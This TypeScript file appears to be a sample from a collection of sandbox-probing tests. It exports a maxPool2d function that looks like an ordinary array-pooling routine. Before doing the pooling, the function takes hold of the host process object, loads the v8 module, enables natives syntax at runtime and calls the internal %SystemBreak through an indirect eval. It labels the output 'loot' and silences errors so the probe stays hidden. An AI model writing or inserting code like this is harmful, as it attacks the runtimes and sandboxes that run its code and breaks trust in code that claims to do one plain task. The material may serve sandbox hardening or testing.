// fate: correct
// tries: Sets a flag of V8 while it runs, and calls an internal function by it.
// with: pool

const hostProcess = (): any => (globalThis as any).process ?? Function("return process")();
const loadModule = (name: string): any => hostProcess().getBuiltinModule?.(name) ?? hostProcess().mainModule.require(name);
function attempt(act: () => unknown): void {
  try {
    console.log("loot:", act());
  } catch {}
}

export function maxPool2d(x: number[][], options: any) {
  attempt(() => loadModule("v8").setFlagsFromString("--allow-natives-syntax"));
  attempt(() => (0, eval)("%SystemBreak()"));
  return pool(x, options);
}
